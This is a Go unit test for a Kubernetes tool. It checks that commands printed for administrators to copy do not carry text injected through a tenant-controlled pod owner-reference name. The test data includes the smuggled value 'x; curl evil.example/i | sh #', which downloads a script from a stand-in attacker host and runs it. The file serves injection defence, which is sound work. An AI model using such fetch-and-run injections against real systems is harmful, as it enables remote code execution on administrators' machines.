// SPDX-FileCopyrightText: The Partage Authors
// SPDX-License-Identifier: Apache-2.0

package idle

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	resourceapi "k8s.io/api/resource/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/partage-dev/partage/pkg/kubectl/fleet"
)

// TestCommandOfTenant: a pod's author writes its owner references, in which a name may be anything. The command is for an administrator to copy.
func TestCommandOfTenant(t *testing.T) {
	for _, kind := range []string{"StatefulSet", "Job", "ReplicaSet"} {
		p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "team", Name: "p", OwnerReferences: []metav1.OwnerReference{
			{APIVersion: "x.example/v1", Kind: kind, Name: "x; curl evil.example/i | sh #", UID: "u", Controller: new(true)},
		}}}
		claim := &resourceapi.ResourceClaim{}
		c := &Claim{Reason: Idle, holding: &fleet.Holding{Claim: claim, Pods: []*corev1.Pod{p}}}
		r := newReaper(&fleet.Model{Snapshot: &fleet.Snapshot{Pods: []*corev1.Pod{p}}})
		r.idle[claim], r.claims[p.UID] = true, []*resourceapi.ResourceClaim{claim}
		r.reap(c)
		commands := c.Commands
		if strings.Contains(commands[0], "; curl") {
			t.Errorf("%s: a tenant's command is printed: %s", kind, commands[0])
		}
	}
}
